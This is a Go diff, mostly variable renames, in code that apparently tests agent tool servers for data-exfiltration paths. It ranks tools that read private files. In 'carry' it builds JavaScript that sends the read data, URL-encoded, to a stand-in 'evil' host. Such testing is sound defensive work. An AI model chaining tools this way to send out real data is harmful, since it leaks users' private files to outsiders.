@@ -45,27 +45,27 @@ func (s *subject) exfiltration() (all []weakness) {
 	return all
 }
 
-// sources are the tools to read with: allowed ones first, and of these, those that read files, and those whose name says
-// that what they read is private.
+// sources are the tools to read with: allowed ones first, and of these, those that read files, and those whose name
+// says that what they read is private.
 func (s *subject) sources() (all []*tool) {
-	rank := map[*tool]int{}
+	order := map[*tool]int{}
 	for _, t := range s.tools {
 		if t.Server == "time" || t.sample == nil || !t.reads() {
 			continue
 		}
 		if s.allowed(t) == nil {
-			rank[t] += 3
+			order[t] += 3
 		}
 		switch {
 		case t.argument(path) != nil:
 		case t.has(private):
-			rank[t]++
+			order[t]++
 		default:
-			rank[t] += 2
+			order[t] += 2
 		}
 		all = append(all, t)
 	}
-	slices.SortStableFunc(all, func(a, b *tool) int { return cmp.Compare(rank[a], rank[b]) })
+	slices.SortStableFunc(all, func(a, b *tool) int { return cmp.Compare(order[a], order[b]) })
 	return all
 }
 
@@ -104,7 +104,7 @@ func carry(from *tool, read map[string]any, to *tool, args map[string]any, carri
 	if carrier.kind == website {
 		value, expression = "https://"+evil+"/?"+mark, `"https://`+evil+`/?" + encodeURIComponent(JSON.stringify(read))`
 	}
-	call := to.expression(literal(with(args, stepsOf(carrier), value)))
-	call = strings.Replace(call, literal(value), expression, 1)
-	return fmt.Sprintf("const read = await %s;\nreturn await %s;", from.expression(literal(read)), call)
+	send := to.expression(literal(with(args, stepsOf(carrier), value)))
+	send = strings.Replace(send, literal(value), expression, 1)
+	return fmt.Sprintf("const read = await %s;\nreturn await %s;", from.expression(literal(read)), send)
 }
